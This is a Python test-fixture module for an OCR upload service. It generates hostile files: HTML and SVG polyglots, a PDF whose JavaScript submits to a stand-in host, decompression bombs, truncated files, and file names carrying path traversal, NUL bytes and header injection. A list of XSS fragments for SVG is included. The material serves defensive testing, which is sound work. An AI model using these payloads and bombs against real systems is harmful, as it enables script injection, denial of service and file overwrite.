"""Hostile files, made at test time: polyglots, decompression bombs, broken files, hostile names.

Each is a `Hostile`: the name it is uploaded under, its bytes, and what ocrdash must do with it:
refuse it with a message that names the file (`refused_because` is a phrase of that message), or
accept it as `accepted_as` (the format detected from the bytes) and from then on serve it only as
inert bytes of that type.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from tests.fixtures.documents import garbage_text_layer_pdf
from tests.fixtures.pdfs import handmade_pdf

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML_PAGE = b"<!doctype html><html><body><h1>hi</h1>" + SCRIPT + b"<img src=x onerror=alert(1)></body></html>"


@dataclass(frozen=True)
class Hostile:
    key: str  # the test's id
    name: str  # the file name it is uploaded under
    data: bytes
    accepted_as: str | None = None  # the detected format (Job.image_format), or None: refused
    refused_because: str = ""  # a phrase the refusal must contain
    # False where the refusal cannot name the file: its name itself is what cannot be read.
    named: bool = True

    @property
    def shown_name(self) -> str:
        """The name as a browser's multipart upload carries it (and Django keeps it): no path, at most
        255 characters, no unprintable characters."""
        base = self.name.replace("\\", "/").rsplit("/", 1)[-1]
        base = "".join(c for c in base if c.isprintable())
        if len(base) > 255:
            stem, dot, ext = base.rpartition(".")
            base = stem[: 255 - len(ext) - 1] + dot + ext
        return base


def png(size=(64, 48), text: dict[str, str] | None = None) -> bytes:
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "white").save(out, "JPEG")
    return out.getvalue()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


@functools.cache
def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real PNG of 30000×30000 black-and-white pixels (900 million): about 100 KB on disk,
    113 MB of pixel rows when decoded, 900 MB as Pillow's 8-bit image."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    parts = [packer.compress(row * 1000) for _ in range(height // 1000)]
    parts.append(packer.compress(row * (height % 1000)))
    parts.append(packer.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1 bit, grey
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """A small PNG whose compressed text chunk inflates to 20 MB (20 times what Pillow will inflate)."""
    image = png()
    bomb = zlib.compress(b"A" * 20_000_000, 9)
    ztxt = _chunk(b"zTXt", b"Comment\x00\x00" + bomb)
    end = image.rindex(b"IEND") - 4
    return image[:end] + ztxt + image[end:]


@functools.cache
def tiff_frames(count: int = 5000) -> bytes:
    """A TIFF of `count` 8×8 grey frames (each its own directory, all drawing the same 64 bytes),
    written directly: Pillow's writer takes half a minute for this many."""
    pixels_at = 8
    out = bytearray(b"II*\x00" + struct.pack("<I", pixels_at + 64) + b"\xff" * 64)
    tags = [(256, 3, 8), (257, 3, 8), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, pixels_at), (277, 3, 1),
            (278, 3, 8), (279, 4, 64)]  # fmt: skip
    for n in range(count):
        start = len(out)
        following = start + 2 + 12 * len(tags) + 4
        out += struct.pack("<H", len(tags))
        for tag, kind, value in tags:
            out += struct.pack("<HHII", tag, kind, 1, value)
        out += struct.pack("<I", following if n < count - 1 else 0)
    return bytes(out)


def tiff_second_frame_bomb(side: int = 30_000) -> bytes:
    """A two-page TIFF: a small first page, then one of side × side pixels (a bomb behind a good page)."""
    pixels_at = 8
    out = bytearray(b"II*\x00" + struct.pack("<I", pixels_at + 64) + b"\xff" * 64)
    for n, size in enumerate((8, side)):
        tags = [(256, 4, size), (257, 4, size), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, pixels_at),
                (277, 3, 1), (278, 4, size), (279, 4, 64)]  # fmt: skip
        following = len(out) + 2 + 12 * len(tags) + 4
        out += struct.pack("<H", len(tags))
        for tag, kind, value in tags:
            out += struct.pack("<HHII", tag, kind, 1, value)
        out += struct.pack("<I", following if n == 0 else 0)
    return bytes(out)


def truncated_tiff() -> bytes:
    from tests.fixtures.documents import tiff_pages

    data = tiff_pages([["one"], ["two"], ["three"]], size=(200, 80))
    return data[: len(data) * 2 // 3]


def _patched_size(data: bytes, box: bytes, width: int, height: int) -> bytes:
    """An HEIF/AVIF file whose image-size property (`ispe`) claims another size."""
    at = data.index(box) + len(box) + 4  # box type, then version and flags
    return data[:at] + struct.pack(">II", width, height) + data[at + 8 :]


@functools.cache
def heic_bomb() -> bytes:
    from tests.fixtures.documents import heic

    return _patched_size(heic(["x"], size=(64, 64)), b"ispe", 60_000, 60_000)


@functools.cache
def avif_bomb() -> bytes:
    from tests.fixtures.documents import encoded

    # 12000² = 144 million pixels: over ocrdash's limit, under libavif's own (which would refuse first).
    return _patched_size(encoded(["x"], "AVIF"), b"ispe", 12_000, 12_000)


def gif_bomb() -> bytes:
    """A GIF whose logical screen is 65535 × 65535 (Pillow takes the image's size from it)."""
    from tests.fixtures.documents import gif

    data = gif([["x"]], size=(32, 32))
    return data[:6] + struct.pack("<HH", 65_535, 65_535) + data[10:]


def jpeg2000_bomb() -> bytes:
    """A JPEG 2000 codestream whose size marker (SIZ) claims 60000 × 60000 pixels."""
    out = io.BytesIO()
    Image.new("L", (32, 32), 255).save(out, "JPEG2000", no_jp2=True)
    data = out.getvalue()
    at = data.index(b"\xff\x51") + 6  # marker, length, capabilities; then Xsiz, Ysiz
    return data[:at] + struct.pack(">II", 60_000, 60_000) + data[at + 8 :]


def heic_bad_bytes() -> bytes:
    """An HEIC's header, then noise: what a photo cut short in transfer or mangled looks like."""
    from tests.fixtures.documents import heic

    good = heic(["x"], size=(64, 64))
    return good[:64] + bytes((i * 37) % 251 for i in range(len(good) - 64))


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def pdf_with_javascript() -> bytes:
    """A one-page PDF that runs JavaScript when opened and when its page is shown (in a reader that runs it)."""
    text = _stream(b"", b"BT /F1 24 Tf 72 700 Td (Invoice) Tj ET")
    return handmade_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(x) 4 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /AA << /O 4 0 R >>"
        b" /Resources << /Font << /F1 6 0 R >> >> >>",
        b"<< /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('http://evil.example/'\\);) >>",
        text,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])  # fmt: skip


def pdf_page(width_pt: int, height_pt: int) -> bytes:
    return handmade_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] >>" % (width_pt, height_pt),
    ])  # fmt: skip


@functools.cache
def pdf_image_bomb(side: int = 30_000) -> bytes:
    """A letter page that draws one image of side × side pixels (1 bit each, compressed to ~110 KB)."""
    packer = zlib.compressobj(9)
    row = b"\x00" * ((side + 7) // 8)
    parts = [packer.compress(row * 1000) for _ in range(side // 1000)]
    parts.append(packer.flush())
    image = _stream(
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1"
        b" /Filter /FlateDecode" % (side, side),
        b"".join(parts),
    )
    return handmade_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /XObject << /Im1 5 0 R >> >> >>",
        _stream(b"", b"q 612 0 0 792 0 0 cm /Im1 Do Q"),
        image,
    ])  # fmt: skip


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)


# What a model could be made to write in an SVG (the README counts these among the hostile model
# outputs; tests/unit/test_dots_svg.py and tests/security/browser/test_hostile_svg.py use them).
# Each entry: (name, the fragment inside <svg>, what must not survive); None: a DOCTYPE entity bomb.
HOSTILE_SVG = [
    ("script-element", "<script>alert(document.cookie)</script>", "<script"),
    ("onload-handler", '<rect width="5" height="5" onload="alert(1)"/>', "onload"),
    ("onclick-mixed-case", '<circle r="4" OnClick="alert(1)"/>', "alert"),
    ("foreign-object-html", '<foreignObject width="9" height="9"><iframe src="https://evil.example"/></foreignObject>',
     "evil.example"),
    ("javascript-link", '<a href="javascript:alert(1)"><text x="1" y="9">go</text></a>', "javascript:"),
    ("xlink-javascript", '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(2)">'
                         '<text x="1" y="9">go</text></a>', "javascript:"),
    ("external-image", '<image href="https://evil.example/track.png" width="5" height="5"/>', "evil.example"),
    ("external-use", '<use href="https://evil.example/sprite.svg#icon"/>', "evil.example"),
    ("css-import", "<style>@import url(https://evil.example/x.css);</style>", "evil.example"),
    ("style-url", '<rect width="5" height="5" style="fill:url(https://evil.example/p.png)"/>', "evil.example"),
    ("data-url-fill", '<rect width="5" height="5" fill="url(data:image/svg+xml;base64,PHN2Zz4=)"/>', "data:"),
    ("animate-href", '<a href="#x"><animate attributeName="href" to="javascript:alert(3)"/></a>', "javascript:"),
    ("set-onbegin", '<set attributeName="fill" to="red" onbegin="alert(4)"/>', "alert"),
    ("doctype-entity", None, "lollol"),
]  # fmt: skip


def hostile_files() -> list[Hostile]:
    good_png = png()
    return [
        # Polyglots: valid images that are also something else.
        Hostile("png-html-polyglot", "x.html", png(text={"Comment": HTML_PAGE.decode()}), accepted_as="PNG"),
        Hostile("jpeg-html-after-end", "photo.jpg", jpeg() + HTML_PAGE, accepted_as="JPEG"),
        Hostile("jpeg-named-svg", "drawing.svg", jpeg() + SVG, accepted_as="JPEG"),
        Hostile("pdf-with-javascript", "invoice.pdf", pdf_with_javascript(), accepted_as="PDF"),
        # Documents that run in a browser, under image names.
        Hostile("svg-as-png", "logo.png", SVG, refused_because="not an image ocrdash can read"),
        Hostile("html-as-jpeg", "scan.jpg", HTML_PAGE, refused_because="not an image ocrdash can read"),
        Hostile("gif-html-polyglot", "anim.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + HTML_PAGE,
                refused_because="not an image ocrdash can read"),
        # Decompression bombs.
        Hostile("png-30000x30000", "huge.png", png_bomb(), refused_because="too large to open safely"),
        Hostile("png-text-bomb", "comment.png", png_text_bomb(), refused_because="damaged or incomplete"),
        Hostile("tiff-5000-frames", "fax.tiff", tiff_frames(), refused_because="more than 200 pages (frames)"),
        Hostile("tiff-second-frame-30000x30000", "scan.tiff", tiff_second_frame_bomb(),
                refused_because="page 2 is 30000×30000"),
        Hostile("heic-60000x60000", "IMG_0001.HEIC", heic_bomb(), refused_because="too large to open safely"),
        Hostile("avif-12000x12000", "photo.avif", avif_bomb(), refused_because="pixels, over the limit"),
        Hostile("gif-65535x65535", "anim.gif", gif_bomb(), refused_because="too large to open safely"),
        Hostile("jpeg2000-60000x60000", "scan.jp2", jpeg2000_bomb(), refused_because="too large to open safely"),
        Hostile("pdf-200x200-inch-page", "poster.pdf", pdf_page(14_400, 14_400),
                refused_because="page 1 of 1 is too large (200 × 200 inches)"),
        Hostile("pdf-image-bomb", "brochure.pdf", pdf_image_bomb(),
                refused_because="holds an image of 30000×30000 = 900,000,000 pixels"),
        # Broken files.
        Hostile("truncated-png", "half.png", good_png[: len(good_png) // 2], refused_because="damaged or incomplete"),
        Hostile("truncated-pdf", "half.pdf", pdf_with_javascript()[:200], refused_because="damaged"),
        Hostile("truncated-tiff", "fax.tiff", truncated_tiff(), refused_because="damaged or incomplete"),
        Hostile("heic-bad-bytes", "IMG_0002.HEIC", heic_bad_bytes(), refused_because="IMG_0002.HEIC"),
        # A PDF whose text layer is garbage: accepted, its page OCR'd (tests/unit/test_text_layer.py).
        Hostile("pdf-garbage-text-layer", "statement.pdf", garbage_text_layer_pdf(), accepted_as="PDF"),
        Hostile("zero-bytes", "empty.png", b"", refused_because="empty"),
        # Hostile names on good files.
        Hostile("name-dot-dot", "../../../etc/cron.d/evil.png", good_png, accepted_as="PNG"),
        Hostile("name-nul", "evil\x00.html.png", good_png, accepted_as="PNG"),
        Hostile("name-rtl-override", "invoice\u202egnp.exe", good_png, accepted_as="PNG"),
        Hostile("name-10000-chars", "a" * 10_000 + ".png", good_png, named=False,
                refused_because="a file name of thousands of characters does not fit"),
        Hostile("name-script", "<script>alert(1)</script>.png", good_png, accepted_as="PNG"),
        Hostile("name-quotes-and-newline", 'a"; filename=evil.html\r\nX: y.png', good_png, accepted_as="PNG"),
    ]  # fmt: skip
